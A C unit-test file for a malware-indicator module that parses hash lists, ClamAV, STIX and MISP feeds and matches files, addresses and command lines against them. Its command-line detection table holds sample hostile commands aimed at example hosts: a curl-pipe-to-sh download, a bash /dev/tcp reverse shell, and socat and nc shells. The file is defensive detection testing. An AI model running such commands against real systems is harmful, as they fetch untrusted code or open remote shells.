/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Lists of indicators, and what is found in them. */
#include "intel/set.h"

#include <check.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "base/compiler.h"
#include "base/strbuf.h"
#include "detect/malicious.h"
#include "unit/store_folder.h"

#define MD5_A "44d88612fea8a8f36de82e1278abb02f"
#define SHA1_A "3395856ce81f2b7382dee72602f798b642f14140"
#define SHA256_A "b7689b12e1b94e628c8398ec86a6ad5ba564f107c5085464f3d03f408959545b"
#define SHA256_B "58824afa640f512e07e895c0f2d1e1fe2c3fd1456acab689b6e4c1c75cef2593"
#define EMPTY_SHA256 "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
#define SHA512_A SHA256_A SHA256_B

/* ---- what is read out of a list ---- */

#define CSV_HEAD                                                                        \
	"################\n"                                                            \
	"# MalwareBazaar recent malware samples (CSV)\n"                                \
	"#\n"                                                                           \
	"# \"first_seen_utc\",\"sha256_hash\",\"md5_hash\",\"sha1_hash\",\"reporter\"," \
	"\"file_name\",\"file_type_guess\",\"mime_type\",\"signature\",\"clamav\","     \
	"\"vtpercent\",\"imphash\",\"ssdeep\",\"tlsh\"\n"
#define CSV_TAIL ", \"n/a\", \"n/a\", \"n/a\", \"n/a\", \"n/a\"\n"
#define STIX(members) \
	"{\"type\":\"bundle\",\"id\":\"bundle--1\",\"objects\":[" members "]}"
#define STIX_IND(more, pattern)                                                \
	"{\"type\":\"indicator\",\"id\":\"indicator--1\",\"name\":\"x\"," more \
	"\"pattern_type\":\"stix\",\"pattern\":\"" pattern "\"}"
#define MISP_ATTR(type, ids, value) \
	"{\"type\":\"" type "\",\"to_ids\":" ids ",\"value\":\"" value "\"}"
#define MISP(members)                         \
	"{\"Event\":{\"Attribute\":[" members \
	"],\"Orgc\":{\"name\":\"CIRCL\"},\"info\":\"Mirai\"}}"

/* want: "kind value name author" a line, in order; counts: t(aken) allowed
 * again empty unfit bad. */
static const struct {
	const char *what, *name, *text, *want, *counts;
} lists[] = {
	{ "plain hashes", "l", "# x\r\n" MD5_A "\r\n\r\n  " SHA1_A "  \n" SHA256_A,
	  "md5 " MD5_A " - -\nsha1 " SHA1_A " - -\nsha256 " SHA256_A " - -\n",
	  "3 0 0 0 0 0" },
	{ "upper case, a byte order mark", "l",
	  "\xef\xbb\xbf"
	  "44D88612FEA8A8F36DE82E1278ABB02F\n",
	  "md5 " MD5_A " - -\n", "1 0 0 0 0 0" },
	{ "comments of all kinds", "l", "; a\n// b\n! c\n" MD5_A " # evil\n",
	  "md5 " MD5_A " evil -\n", "1 0 0 0 0 0" },
	{ "sha256sum", "l", SHA256_A "  a b.elf\n" SHA256_B " *b\n\\" MD5_A "  a\\nb\n",
	  "md5 " MD5_A " a\\nb -\nsha256 " SHA256_B " b -\nsha256 " SHA256_A
	  " a b.elf -\n",
	  "3 0 0 0 0 0" },
	{ "sha256sum --tag", "l", "SHA256 (a (1).elf) = " SHA256_A "\n",
	  "sha256 " SHA256_A " a (1).elf -\n", "1 0 0 0 0 0" },
	{ "name before the hash", "l", "evil.exe: " MD5_A "\nbad," SHA1_A "\n",
	  "md5 " MD5_A " evil.exe -\nsha1 " SHA1_A " bad -\n", "2 0 0 0 0 0" },
	{ "hashes that are no indicators", "l",
	  EMPTY_SHA256 "\nd41d8cd98f00b204e9800998ecf8427e\n"
		       "da39a3ee5e6b4b0d3255bfef95601890afd80709\n" SHA512_A "\n" MD5_A
		       "\n" MD5_A "\n",
	  "md5 " MD5_A " - -\n", "1 0 1 3 0 1" },
	{ "URLs", "l",
	  "hxxp://Evil[.]Example[.]com:80/A/b?x=1#f\nhttps://u:p@a.example.com\n"
	  "http://[2001:DB8::1]:8080/\n",
	  "url http://[2001:db8::1]:8080/ - -\nurl http://evil.example.com/A/b?x=1 - -\n"
	  "url https://a.example.com/ - -\n",
	  "3 0 0 0 0 0" },
	{ "names", "l", "Evil.example.com.\n*.b.example.com\nc[.]example.com # C2\n",
	  "domain b.example.com - -\ndomain c.example.com C2 -\n"
	  "domain evil.example.com - -\n",
	  "3 0 0 0 0 0" },
	{ "addresses", "l",
	  "203.0.113.9\n198.51.100.7:4444\n[2001:db8::1]:443\n192.0.2.77/24\n2001:db8:1::/48\n",
	  "address 192.0.2.0/24 - -\naddress 198.51.100.7 - -\naddress 203.0.113.9 - -\n"
	  "address 2001:db8::1 - -\naddress 2001:db8:1::/48 - -\n",
	  "5 0 0 0 0 0" },
	{ "addresses that are no indicators", "l",
	  "127.0.0.1\n0.0.0.0\n::1\n::\n255.255.255.255\n10.0.0.0/7\n0.0.0.0/0\n"
	  "300.1.1.1\n203.0.113.9\n",
	  "address 203.0.113.9 - -\n", "1 0 0 0 0 8" },
	{ "hosts file", "l",
	  "127.0.0.1 localhost\n0.0.0.0 evil.example.com # x\n127.0.0.1\tb.example.com\n",
	  "domain b.example.com - -\ndomain evil.example.com x -\n", "2 0 0 0 0 0" },
	{ "lines that are nothing", "l",
	  "hello world\n" MD5_A "g\nfoo\n../x\n" MD5_A "\n", "md5 " MD5_A " - -\n",
	  "1 0 0 0 0 4" },
	{ "MalwareBazaar", "l",
	  CSV_HEAD "\"2026-01-02 03:04:05\", \"" SHA256_A "\", \"" MD5_A "\", \"" SHA1_A
		   "\", \"abuse_ch\", \"a, \"\"b\"\".elf\", \"elf\", \"x\", "
		   "\"Mirai\"" CSV_TAIL "\"2026\",\"" SHA256_B
		   "\",\"n/a\",\"\",\"n/a\",\"b.elf\",\"elf\",\"x\",\"n/a\"\n",
	  "md5 " MD5_A " Mirai abuse_ch\nsha1 " SHA1_A " Mirai abuse_ch\n"
	  "sha256 " SHA256_B " b.elf -\nsha256 " SHA256_A " Mirai abuse_ch\n",
	  "4 0 0 0 0 0" },
	{ "MalwareBazaar, broken rows", "l",
	  CSV_HEAD "\"2026\", \"" SHA256_A
		   "\", \"\", \"\", \"r\", \"f\", \"\", \"\", \"F\"\n"
		   "\"2026\", \"x\", \"\", \"\", \"r\", \"f\", \"\", \"\", \"F\"\nx\n",
	  "sha256 " SHA256_A " F r\n", "1 0 0 0 0 2" },
	{ "ClamAV", "l.hdb",
	  MD5_A ":68:Eicar\n" SHA256_A ":*:Foo.Bar:73:99\n45056:" MD5_A ":Pe\n",
	  "md5 " MD5_A " Eicar -\nsha256 " SHA256_A " Foo.Bar -\n", "2 0 0 0 0 1" },
	{ "ClamAV, known to be good", "l.FP", MD5_A ":68:Fine\n",
	  "+md5 " MD5_A " Fine -\n", "0 1 0 0 0 0" },
	{ "STIX", "l",
	  STIX(STIX_IND(
		  "\"created_by_ref\":\"identity--7\",",
		  "[file:hashes.'SHA-256' = '" SHA256_A "' OR file:hashes.MD5 = '" MD5_A
		  "'] OR [domain-name:value IN ('a.example.com', 'b.example.com')]") ",{\"type\":\"identity\",\"id\":\"identity--7\",\"name\":\"Us\"}"),
	  "md5 " MD5_A " x Us\nsha256 " SHA256_A " x Us\ndomain a.example.com x Us\n"
	  "domain b.example.com x Us\n",
	  "4 0 0 0 0 0" },
	{ "STIX that accuses nobody", "l",
	  STIX(STIX_IND(
		  "\"revoked\":true,",
		  "[file:hashes.MD5 = '" MD5_A
		  "']") ","
			"{\"type\":\"file\",\"hashes\":{\"MD5\":\"" MD5_A "\"}},"
			"{\"type\":\"indicator\",\"pattern_type\":\"yara\",\"pattern\":\"rule x {}\"}," STIX_IND(
				"",
				"[file:hashes.MD5 != '" MD5_A
				"']") "," STIX_IND("",
						   "[file:hashes.MD5 NOT = '" MD5_A
						   "']") "," STIX_IND("",
								      "[file:name LIKE '" MD5_A
								      "']") "," STIX_IND("",
											 "[ipv4-addr:value = '203.0.113.9' AND network-traffic:dst_port = 1]") "," STIX_IND("",
																					    "[file:hashes.MD5 = '" MD5_A
																					    "'] FOLLOWEDBY [url:value = "
																					    "'http://x.example.com/'] WITHIN 9 SECONDS")),
	  "", "0 0 0 0 7 0" },
	{ "STIX, further conditions on a hash", "l",
	  STIX(STIX_IND("",
			"[file:name = 'it\\\\'s' AND file:hashes.\\\"SHA-1\\\" = '" SHA1_A
			"']")),
	  "sha1 " SHA1_A " x -\n", "1 0 0 0 0 0" },
	{ "MISP", "l",
	  MISP(MISP_ATTR("sha256", "true", SHA256_A) "," MISP_ATTR("md5", "false", MD5_A) "," MISP_ATTR("filename|sha1", "\"1\"", "a|b.elf|" SHA1_A) "," MISP_ATTR(
		  "ip-dst|port", "1",
		  "203.0.113.9|4444") "," MISP_ATTR("domain|ip", "true",
						    "a.example.com|203.0.113.8") "," MISP_ATTR("comment",
											       "true",
											       "see " MD5_A) "," MISP_ATTR("md5",
															   "true",
															   "nonsense")),
	  "sha1 " SHA1_A " a|b.elf CIRCL\nsha256 " SHA256_A " Mirai CIRCL\n"
	  "domain a.example.com Mirai CIRCL\naddress 203.0.113.8 Mirai CIRCL\n"
	  "address 203.0.113.9 Mirai CIRCL\n",
	  "5 0 0 0 2 1" },
	{ "MISP, objects and several events", "l",
	  "{\"response\":[{\"Event\":{\"info\":\"One\",\"Orgc\":{\"name\":\"A\"},\"Object\":"
	  "[{\"name\":\"file\",\"Attribute\":[" MISP_ATTR(
		  "md5", "true",
		  MD5_A) "]}]}},"
			 "{\"Event\":{\"Attribute\":[" MISP_ATTR(
				 "sha1", "true",
				 SHA1_A) "],\"info\":\"Two\",\"Orgc\":{\"name\":\"B\"}}}]}",
	  "md5 " MD5_A " One A\nsha1 " SHA1_A " Two B\n", "2 0 0 0 0 0" },
};

static void add_indicator(void *ctx, const struct intel_match *m, bool allow)
{
	strbuf_printf(ctx, "%s%s %s %s %s\n", allow ? "+" : "",
		      indicator_kind_name(m->kind), m->value, m->name ? m->name : "-",
		      m->author ? m->author : "-");
}

static struct intel_import how = { .now = 1000 };

START_TEST(lists_are_recognised_and_read)
{
	struct intel_counts c = { 0 };
	struct err err = { "" };
	struct intel_db *db;
	struct strbuf got;
	char counts[64];

	strbuf_init(&got);
	ck_assert_int_eq(intel_db_new(&db, &err), 0);
	ck_assert_msg(intel_import_bytes(db, slice_str(lists[_i].text), lists[_i].name,
					 &how, &c, &err) == 0,
		      "%s: %s", lists[_i].what, err.msg);
	ck_assert_int_eq(intel_db_each(db, add_indicator, &got, &err), 0);
	snprintf(counts, sizeof(counts), "%d %d %d %d %d %d", (int)c.taken,
		 (int)c.allowed, (int)c.again, (int)c.empty, (int)c.unfit, (int)c.bad);
	ck_assert_msg(strcmp(strbuf_str(&got), lists[_i].want) == 0, "%s: got\n%snot\n%s",
		      lists[_i].what, strbuf_str(&got), lists[_i].want);
	ck_assert_msg(strcmp(counts, lists[_i].counts) == 0, "%s: %s, not %s",
		      lists[_i].what, counts, lists[_i].counts);
	intel_db_free(&db);
	strbuf_fini(&got);
}
END_TEST

static const struct {
	const char *text;
	size_t len;
	const char *message;
} no_lists[] = {
#define NO_LIST(text, message)                  \
	{                                       \
		text, sizeof(text) - 1, message \
	}
	NO_LIST("hello world\nhow are you\n", "holds no indicators"),
	NO_LIST("\x7f"
		"ELF\0\0\0\0",
		"is no text"),
	NO_LIST("ClamAV-VDB:01 Jan 2026:1:1:1:x", "sigtool --unpack"),
	NO_LIST("{\"a\":[1,2,3]}", "no STIX bundle and no MISP event"),
	NO_LIST("{\"objects\":[{\"type\":\"indicator\",\"pattern\":",
		"ends in the middle"),
	NO_LIST("{\"objects\":[{\"type\":\"x\"}]}}", "closes what was not opened"),
	NO_LIST("{\"objects\":[{]}", "closes what was not opened"),
	NO_LIST("\x1f\x8b\x08\0\0\0\0\0\0\x03garbage", "cannot be unpacked"),
#undef NO_LIST
};

START_TEST(what_is_no_list_is_refused)
{
	struct intel_counts c = { 0 };
	struct err err = { "" };
	struct intel_db *db;

	ck_assert_int_eq(intel_db_new(&db, &err), 0);
	ck_assert_int_eq(
		intel_import_bytes(db, slice_make(no_lists[_i].text, no_lists[_i].len),
				   "l", &how, &c, &err),
		-1);
	ck_assert_msg(strstr(err.msg, no_lists[_i].message) != NULL,
		      "\"%s\" has no \"%s\"", err.msg, no_lists[_i].message);
	intel_db_free(&db);
}
END_TEST

/* ---- hostile lists ---- */

static int import_buffer(const struct strbuf *text, struct intel_counts *c,
			 struct err *err)
{
	struct intel_db *db;
	int rc;

	ck_assert_int_eq(intel_db_new(&db, err), 0);
	rc = intel_import_bytes(db, strbuf_slice(text), "l", &how, c, err);
	intel_db_free(&db);
	return rc;
}

static void add_many(struct strbuf *text, const char *what, size_t times)
{
	for (size_t i = 0; i < times; i++)
		strbuf_add_str(text, what);
}

START_TEST(huge_lines_are_passed_over)
{
	struct intel_counts c = { 0 };
	struct strbuf text;
	struct err err;

	strbuf_init(&text);
	strbuf_add_str(&text, MD5_A "\n");
	add_many(&text, "0123456789", 100000);
	strbuf_add_str(&text, "\n" SHA1_A "\n");
	add_many(&text, "x", LIMIT_FEED_LINE + 1);
	ck_assert_int_eq(import_buffer(&text, &c, &err), 0);
	ck_assert_uint_eq(c.taken, 2);
	ck_assert_uint_eq(c.bad, 2);
	strbuf_fini(&text);
}
END_TEST

START_TEST(deep_json_is_refused)
{
	struct intel_counts c = { 0 };
	struct strbuf text;
	struct err err;

	strbuf_init(&text);
	add_many(&text, "[", 100000);
	ck_assert_int_eq(import_buffer(&text, &c, &err), -1);
	ck_assert_ptr_nonnull(strstr(err.msg, "nested too deeply"));
	strbuf_fini(&text);
}
END_TEST

START_TEST(large_objects_are_passed_over)
{
	struct intel_counts c = { 0 };
	struct strbuf text;
	struct err err;

	strbuf_init(&text);
	strbuf_add_str(&text, "{\"objects\":[{\"type\":\"indicator\",\"name\":\"");
	add_many(&text, "0123456789abcdef", (17 << 20) / 16);
	strbuf_add_str(&text,
		       "\"}," STIX_IND("", "[file:hashes.MD5 = '" MD5_A "']") "]}");
	ck_assert_msg(import_buffer(&text, &c, &err) == 0, "%s", err.msg);
	ck_assert_uint_eq(c.taken, 1);
	ck_assert_uint_eq(c.bad, 1);
	strbuf_fini(&text);
}
END_TEST

/* ---- look-ups ---- */

static struct intel_set *set;
static struct arena arena;

/* Several lists, each a file of its own: NAME, TEXT, ..., NULL. */
static void make_set(const char *const *files)
{
	char path[512];
	struct err err;

	set = intel_set_new();
	arena_init(&arena);
	for (; files[0]; files += 2) {
		FILE *file;

		snprintf(path, sizeof(path), "%s/%s", store_folder(), files[0]);
		file = fopen(path, "w");
		ck_assert_ptr_nonnull(file);
		fputs(files[1], file);
		ck_assert_int_eq(fclose(file), 0);
		ck_assert_msg(intel_set_add(set, path, &how, &err) == 0, "%s", err.msg);
	}
}

static void drop_set(void)
{
	intel_set_free(&set);
	arena_fini(&arena);
}

static bool has_sha256(const char *hex, uint64_t size, int64_t when)
{
	uint8_t digest[SHA256_LEN];
	struct intel_match match;

	ck_assert(hex_decode(slice_str(hex), digest, sizeof(digest)));
	return intel_find_sha256(set, digest, size, when, &arena, &match);
}

START_TEST(sizes_and_ends_are_held_to)
{
	static const char *const files[] = {
		"a.hsb", SHA256_A ":68:Sized\n", "b.json",
		STIX(STIX_IND("\"valid_until\":\"2026-01-01T00:00:00Z\",",
			      "[file:hashes.'SHA-256' = '" SHA256_B "']")),
		NULL
	};

	make_set(files);
	ck_assert(has_sha256(SHA256_A, 68, 0));
	ck_assert(has_sha256(SHA256_A, SIZE_UNKNOWN, 0));
	ck_assert(!has_sha256(SHA256_A, 69, 0));
	ck_assert(has_sha256(SHA256_B, 1, INT64_C(1767225599999)));
	ck_assert(!has_sha256(SHA256_B, 1, INT64_C(1767225600000)));
	ck_assert(!has_sha256(EMPTY_SHA256, 0, 0));
	drop_set();
}
END_TEST

START_TEST(what_is_good_is_not_accused)
{
	static const char *const files[] = { "a", SHA256_A "\n" SHA256_B "\n", "b.sfp",
					     SHA256_A ":*:Fine\n", NULL };

	make_set(files);
	ck_assert(!has_sha256(SHA256_A, SIZE_UNKNOWN, 0));
	ck_assert(has_sha256(SHA256_B, SIZE_UNKNOWN, 0));
	drop_set();
}
END_TEST

static const char *const net_files[] = {
	"net",
	"http://evil.example.com/a?x=1&y=2\nexample.org\n203.0.113.0/24\n"
	"198.51.100.7:4444\n2001:db8::/32\n",
	NULL
};

/* Words of a command line, '\n' between, and what of them is listed. */
static const struct {
	const char *argv, *want;
} commands[] = {
	{ "curl\n-s\nhttp://evil.example.com/a?x=1&y=2",
	  "http://evil.example.com/a?x=1&y=2" },
	{ "curl\nHTTP://EVIL.example.com:80/a?x=1&y=2#z",
	  "http://evil.example.com/a?x=1&y=2" },
	{ "curl\nevil.example.com/a?x=1&y=2", "http://evil.example.com/a?x=1&y=2" },
	{ "sh\n-c\ncurl 'http://evil.example.com/a?x=1&y=2'|sh",
	  "http://evil.example.com/a?x=1&y=2" },
	{ "curl\nhttp://evil.example.com/b", NULL },
	{ "curl\nhttps://evil.example.com/a?x=1&y=2", NULL },
	{ "wget\nhttps://sub.example.org/x", "example.org" },
	{ "wget\nhttps://example.org.evil.net/x", NULL },
	{ "wget\nhttps://notexample.org/x", NULL },
	{ "ssh\nroot@a.example.org", "example.org" },
	{ "scp\nx\nroot@example.org:/tmp", "example.org" },
	{ "nc\n203.0.113.9\n4444", "203.0.113.0/24" },
	{ "nc\n203.0.114.9\n4444", NULL },
	{ "bash\n-c\nbash -i >& /dev/tcp/203.0.113.9/443 0>&1", "203.0.113.0/24" },
	{ "socat\nEXEC:sh\nTCP:203.0.113.9:4444", "203.0.113.0/24" },
	{ "x\n--server=example.org", "example.org" },
	{ "x\n198.51.100.7:4444", "198.51.100.7" },
	{ "x\n198.51.100.7:80", NULL },
	{ "x\nhttp://[2001:db8::7]:80/", "2001:db8::/32" },
	{ "python3\nexample.py\nfoo.org\n1.2.3", NULL },
	{ "x\n\n.\n..\n:\n://\n@\n/\nhttp://\n=\n[", NULL },
};

START_TEST(command_lines_are_searched)
{
	const char *argv[16];
	char *copy = strdup(commands[_i].argv), *rest = copy;
	struct intel_match match;
	size_t argc = 0;
	bool found;

	make_set(net_files);
	while (rest && argc < 16)
		argv[argc++] = strsep(&rest, "\n");
	found = malicious_argv(set, argv, argc, 0, &arena, &match);
	ck_assert_msg(found == (commands[_i].want != NULL), "%s: %s", commands[_i].argv,
		      found ? match.value : "nothing found");
	if (found)
		ck_assert_str_eq(match.value, commands[_i].want);
	drop_set();
	free(copy);
}
END_TEST

START_TEST(addresses_are_found_with_their_port)
{
	struct intel_match m;

	make_set(net_files);
	ck_assert(intel_find_address(set, "203.0.113.200", 1, 0, &arena, &m));
	ck_assert_str_eq(m.value, "203.0.113.0/24");
	ck_assert(intel_find_address(set, "::ffff:203.0.113.200", 1, 0, &arena, &m));
	ck_assert(intel_find_address(set, "198.51.100.7", 4444, 0, &arena, &m));
	ck_assert(!intel_find_address(set, "198.51.100.7", 4445, 0, &arena, &m));
	ck_assert(intel_find_address(set, "198.51.100.7", -1, 0, &arena, &m));
	ck_assert(intel_find_address(set, "2001:db8:ffff::1", 1, 0, &arena, &m));
	ck_assert(!intel_find_address(set, "2001:db9::1", 1, 0, &arena, &m));
	ck_assert(!intel_find_address(set, "/run/x.sock", -1, 0, &arena, &m));
	drop_set();
}
END_TEST

/* ---- files of indicators ---- */

static const char *file_of(char path[512])
{
	snprintf(path, 512, "%s/intel.db", store_folder());
	return path;
}

static void import_text_into(const char *path, const char *text, const char *source)
{
	struct intel_counts c = { 0 };
	struct intel_db *db;
	struct err err;

	ck_assert_msg(intel_db_update(path, &db, &err) == 0, "%s", err.msg);
	ck_assert_msg(intel_import_bytes(db, slice_str(text), source, &how, &c, &err) ==
			      0,
		      "%s", err.msg);
	ck_assert_msg(intel_db_commit(&db, &err) == 0, "%s", err.msg);
}

START_TEST(a_reader_sees_what_is_imported_meanwhile)
{
	char path[512];
	struct err err;

	set = intel_set_new();
	arena_init(&arena);
	import_text_into(file_of(path), SHA256_A "\n", "a");
	ck_assert_int_eq(intel_set_add(set, path, &how, &err), 0);
	ck_assert(has_sha256(SHA256_A, SIZE_UNKNOWN, 0));
	ck_assert(!has_sha256(SHA256_B, SIZE_UNKNOWN, 0));
	import_text_into(path, SHA256_B "\n", "b");
	intel_set_suspend(set);
	ck_assert(has_sha256(SHA256_A, SIZE_UNKNOWN, 0));
	ck_assert(has_sha256(SHA256_B, SIZE_UNKNOWN, 0));
	ck_assert_ptr_null(intel_set_problem(set));
	ck_assert_int_eq(remove(path), 0);
	intel_set_suspend(set);
	ck_assert(!has_sha256(SHA256_A, SIZE_UNKNOWN, 0));
	ck_assert_ptr_nonnull(intel_set_problem(set));
	drop_set();
}
END_TEST

START_TEST(one_update_at_a_time)
{
	char path[512];
	struct intel_db *one, *two;
	struct err err;

	ck_assert_int_eq(intel_db_update(file_of(path), &one, &err), 0);
	ck_assert_int_eq(intel_db_update(path, &two, &err), -1);
	ck_assert_ptr_nonnull(strstr(err.msg, "another auspex is writing to it"));
	intel_db_free(&one);
	ck_assert_int_eq(intel_db_update(path, &two, &err), 0);
	intel_db_free(&two);
	/* Nothing was committed: nothing is there. */
	ck_assert(!intel_db_is_one(path));
}
END_TEST

START_TEST(a_damaged_file_is_no_crash)
{
	char path[512], page[4096];
	struct intel_match match;
	struct intel_db *db;
	struct err err;
	FILE *file;

	set = intel_set_new();
	arena_init(&arena);
	import_text_into(file_of(path), SHA256_A "\nevil.example.com\n", "a");
	file = fopen(path, "r+");
	ck_assert_ptr_nonnull(file);
	memset(page, 0xa5, sizeof(page));
	for (long at = 4096; at < 65536 && fseek(file, at, SEEK_SET) == 0; at += 4096)
		fwrite(page, 1, sizeof(page), file);
	fclose(file);
	if (intel_db_open(path, &db, &err) == 0) {
		intel_db_free(&db);
		ck_assert_int_eq(intel_set_add(set, path, &how, &err), 0);
	}
	ck_assert(!has_sha256(SHA256_B, SIZE_UNKNOWN, 0));
	ck_assert(
		!intel_find_word(set, SLICE_LIT("evil.example.com"), 0, &arena, &match));
	drop_set();
}
END_TEST

Suite *suite_intel(void);

Suite *suite_intel(void)
{
	Suite *s = suite_create("intel");
	TCase *tc = tcase_create("lists");

	tcase_add_loop_test(tc, lists_are_recognised_and_read, 0, ARRAY_SIZE(lists));
	tcase_add_loop_test(tc, what_is_no_list_is_refused, 0, ARRAY_SIZE(no_lists));
	tcase_add_test(tc, huge_lines_are_passed_over);
	tcase_add_test(tc, deep_json_is_refused);
	tcase_add_test(tc, large_objects_are_passed_over);
	suite_add_tcase(s, tc);
	tc = tcase_create("files");
	tcase_add_checked_fixture(tc, store_folder_make, store_folder_drop);
	tcase_add_test(tc, sizes_and_ends_are_held_to);
	tcase_add_test(tc, what_is_good_is_not_accused);
	tcase_add_loop_test(tc, command_lines_are_searched, 0, ARRAY_SIZE(commands));
	tcase_add_test(tc, addresses_are_found_with_their_port);
	tcase_add_test(tc, a_reader_sees_what_is_imported_meanwhile);
	tcase_add_test(tc, one_update_at_a_time);
	tcase_add_test(tc, a_damaged_file_is_no_crash);
	suite_add_tcase(s, tc);
	return s;
}
